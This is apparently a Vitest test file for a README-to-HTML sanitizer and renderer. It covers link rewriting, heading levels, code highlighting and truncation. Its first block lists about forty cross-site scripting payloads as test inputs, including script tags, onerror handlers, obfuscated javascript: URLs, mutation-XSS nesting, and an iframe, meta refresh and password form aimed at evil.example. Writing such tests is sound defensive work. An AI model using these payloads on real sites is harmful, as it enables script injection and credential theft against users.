import type { Element, Root } from 'hast';
import rehypeRaw from 'rehype-raw';
import { unified } from 'unified';
import { describe, expect, it } from 'vitest';
import { MAX_README } from '../../src/worker/packument.js';
import { readmeHtml } from '../../src/worker/readme-html.js';

const repository = { page: 'https://github.com/ann/plain', directory: 'packages/plain' };
const html = (readme: string) => readmeHtml({ readme, repository });

const ALLOWED = ['a', 'p', 'img', 'pre', 'code', 'span', 'div', 'sup', 'sub', 'h2', 'h3', 'section', 'ol', 'ul', 'li'];
ALLOWED.push('details', 'summary', 'picture', 'table', 'tbody', 'tr', 'td');
const HARMLESS = ['href', 'src', 'alt', 'title', 'rel', 'loading', 'id', 'className', 'ariaLabel', 'tabIndex', 'open'];
HARMLESS.push('ariaDescribedBy', 'dataFootnotes', 'dataFootnoteRef', 'dataFootnoteBackref', 'width', 'height');

/** As a browser finds them. */
function elementsOf(made: string): Element[] {
  const tree = unified()
    .use(rehypeRaw)
    .runSync({ type: 'root', children: [{ type: 'raw', value: made }] } as Root);
  const within = (node: Root | Element): Element[] =>
    node.children.flatMap((child) => (child.type === 'element' ? [child, ...within(child)] : []));
  return within(tree as Root);
}

describe('a README that tries to inject something', () => {
  const attacks = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://ok.example/a.png" onload="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](java&#10;script:alert(1))',
    '[x](<java\tscript:alert(1)>)',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)',
    '![x](javascript:alert(1))',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<style>body{display:none}</style>',
    '<p style="position:fixed;inset:0">x</p>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<form action="https://evil.example/"><input name="password"><button>ok</button></form>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea></textarea><title><script>alert(1)</script></title>',
    '<!--><script>alert(1)</script>-->',
    '<template><script>alert(1)</script></template>',
    '```"><script>alert(1)</script>\ncode\n```',
    '<div data-x="1" class="site-header" onclick="alert(1)">x</div>',
    '<picture><source srcset="http://evil.example/x"><img src="https://ok.example/x.png" alt="ok"></picture>',
    '<img src="https://ok.example/x.png" srcset="javascript:alert(1) 2x" alt="">',
    '[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: note',
    '<a href="https://ok.example/" target="_blank" rel="opener" ping="https://evil.example/">x</a>',
  ];
  it.each(attacks)('%s', (attack) => {
    for (const { tagName, properties } of elementsOf(html(attack))) {
      expect(ALLOWED).toContain(tagName);
      expect(Object.keys(properties).filter((name) => !HARMLESS.includes(name))).toEqual([]);
      for (const address of [properties.href, properties.src])
        expect(address ?? '').toMatch(/^(?:https?:|mailto:|#|$)/);
      expect(String(properties.className ?? '')).not.toMatch(/site-header/);
      expect(properties.rel ?? []).not.toContain('opener');
    }
  });

  it('takes no id and no name of the page', () => {
    const made = html(
      '<a id="app" name="document">x</a>\n\n<img name="cookie" src="https://ok.example/x.png">\n\n[to it](#app)',
    );
    expect(made).toContain('id="user-content-app"');
    expect(made).toContain('href="#user-content-app"');
    for (const taken of ['id="app"', 'name="document"', 'name="cookie"']) expect(made).not.toContain(taken);
  });
});

describe('a README as HTML', () => {
  it('leads its links to the repository', () => {
    expect(html('[a](docs/a.md) [b](/b.md) [c](../../c) [d](https://d.example/) [e](mailto:e@d.example)')).toBe(
      '<p><a href="https://github.com/ann/plain/blob/HEAD/packages/plain/docs/a.md" rel="nofollow noopener noreferrer ugc">a</a> ' +
        '<a href="https://github.com/b.md" rel="nofollow noopener noreferrer ugc">b</a> ' +
        '<a href="https://github.com/ann/plain/blob/HEAD/c" rel="nofollow noopener noreferrer ugc">c</a> ' +
        '<a href="https://d.example/" rel="nofollow noopener noreferrer ugc">d</a> ' +
        '<a href="mailto:e@d.example" rel="nofollow noopener noreferrer ugc">e</a></p>',
    );
    expect(readmeHtml({ readme: '[a](docs/a.md)', repository: null })).toBe('<p><a>a</a></p>');
  });

  it('shows images by https, from the repository too, and the words of all others', () => {
    expect(html('![a cat](cat.png)')).toBe(
      '<p><img src="https://raw.githubusercontent.com/ann/plain/HEAD/packages/plain/cat.png" alt="a cat" loading="lazy"></p>',
    );
    expect(html('![a cat](http://insecure.example/cat.png)')).toBe('<p>a cat</p>');
  });

  it('gives every link a name', () => {
    expect(html('[![](https://ok.example/x.png)](https://d.example/)')).toContain('aria-label="https://d.example/"');
  });

  it('fits its headings below that of the page, without gaps', () => {
    const levels = (readme: string) => elementsOf(html(readme)).map(({ tagName }) => tagName);
    expect(levels('# A\n\n#### B\n\n## C\n\n###### D')).toEqual(['h2', 'h3', 'h3', 'h4']);
    expect(levels('<h1><img src="https://ok.example/x.png"></h1>')).toEqual(['div', 'img']);
  });

  it('can be linked to by its headings, as on GitHub', () => {
    expect(html('# How to *use* `it`?\n\n[to it](#how-to-use-it)')).toBe(
      '<h2 id="user-content-how-to-use-it">How to <em>use</em> <code>it</code>?</h2>\n' +
        '<p><a href="#user-content-how-to-use-it">to it</a></p>',
    );
    const ids = elementsOf(html('# a\n# a\n# constructor\n# <a id="b">b</a>')).map(({ properties }) => properties.id);
    expect(ids).toEqual([
      'user-content-a',
      'user-content-a-1',
      'user-content-constructor',
      'user-content-b',
      'user-content-b',
    ]);
  });

  it('colours code, and lets the keyboard scroll code and tables', () => {
    expect(html('```js\nconst a = 1;\n```')).toMatch(
      /^<pre tabindex="0"><code class="hljs language-js"><span class="hljs-keyword">const<\/span>/,
    );
    expect(html('| a |\n|--|\n| 1 |')).toMatch(/^<div class="table" tabindex="0"><table>/);
    expect(html('```no-such-language\nx\n```')).toContain('x');
  });

  it('shows tasks as text', () => {
    expect(html('- [x] done\n- [ ] open')).toMatch(/☑ done.*☐ open/s);
  });

  it('is cut where it is too long, between characters, and says so', () => {
    const made = html('😀'.repeat(MAX_README / 2 + 10));
    expect(made).not.toContain('\ufffd');
    expect(made.match(/😀/gu)).toHaveLength(MAX_README / 2);
    expect(made).toContain('longer than what is shown here');
  });

  it.each([
    ['nests too deep', '>'.repeat(5_000)],
    ['nests HTML too deep', '<div>'.repeat(100_000)],
    ['takes too long to parse', '*a_'.repeat(100_000)],
  ])('is shown as it is written where it %s', (_, readme) => {
    expect(html(`${readme}<script>`)).toMatch(/^<pre tabindex="0">.*&#60;script&#62;<\/pre>$/s);
    expect(html('*fine*')).toBe('<p><em>fine</em></p>');
  });
});
